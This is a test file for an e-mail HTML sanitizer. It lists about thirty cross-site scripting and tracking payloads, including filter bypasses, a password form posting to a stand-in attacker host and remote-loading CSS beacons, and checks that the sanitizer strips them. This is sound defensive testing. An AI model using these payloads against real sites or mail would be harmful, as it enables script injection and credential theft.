import { describe, expect, it } from 'vitest';
import { cleanLetter, letterText, placePictures, showPictures } from './clean.ts';

/** E-mails as attackers write them: nothing that runs, loads, submits or covers the page survives. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg/onload=alert(1)>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=\'x\' onclick="alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=p type=password><button>ok</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>',
  '<div style="background-image:url(https://evil.example/p.gif)">x</div>',
  '<div style="background:url(https://evil.example/p.gif)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;z-index:9">x</div>',
  '<body background="https://evil.example/p.gif" onload=alert(1)>',
  '<table background="https://evil.example/p.gif"><tr><td>x</table>',
  '<img srcset="https://evil.example/p.gif 2x">',
  '<video src="https://evil.example/x" autoplay></video>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<p title="><img src=x onerror=alert(1)>">x</p>',
  "<a href='https://ok.example/\"onmouseover=alert(1) x='>x</a>",
];

const running =
  /<(?!\/?(?:p|a|div|img|table|tr|td|b|span)\b)[a-z/!]|\son\w+\s*=(?![^<]*&quot;)|\ssrc=|srcset|background|position|expression|javascript:|url\(/i;

describe('cleanLetter', () => {
  it.each(hostile)('leaves nothing that acts in %s', (html) => {
    // what stands between quotes is only text
    expect(cleanLetter(html).replace(/"[^"]*"/g, '""')).not.toMatch(running);
    expect(cleanLetter(html)).not.toMatch(/javascript:/i);
  });

  it('keeps what shows something', () => {
    const table = '<table width="600" border="0"><tr><td align="center" style="color:#333;padding:4px 8px">报价单</td></tr></table>';
    expect(cleanLetter(table)).toBe(table);
    expect(cleanLetter('<p>a<b>b</p>')).toBe('<p>a<b>b</b></p>');
    expect(cleanLetter('1 < 2 &amp; 3')).toBe('1 &lt; 2 &amp; 3');
  });

  it('is stable: what is clean stays as it is', () => {
    for (const html of hostile)
      expect(cleanLetter(cleanLetter(html)).replace(/ data-\w+="[^"]*"/g, '')).toBe(cleanLetter(html).replace(/ data-\w+="[^"]*"/g, ''));
  });

  it('loads no picture before it is asked for', () => {
    const html = cleanLetter('<img src="https://track.example/p.gif?u=1&amp;v=2" width="1"><img src="cid:logo@x" alt="Logo">');
    expect(html).not.toMatch(/\ssrc=/);
    const id = '01970000-0000-7000-8000-000000000001';
    const placed = placePictures(html, new Map([['logo@x', id]]));
    expect(showPictures(placed, { remote: false })).toContain(` src="/api/v1/files/${id}"`);
    expect(showPictures(placed, { remote: false })).not.toContain(' src="https://track');
    expect(showPictures(placed, { remote: true })).toContain(' src="https://track.example/p.gif?u=1&amp;v=2"');
  });

  it('reads as text', () => {
    expect(letterText('<p>张总：</p><p>您好！<br>报价见附件&nbsp;。</p>')).toBe('张总：\n您好！\n报价见附件 。');
  });
});
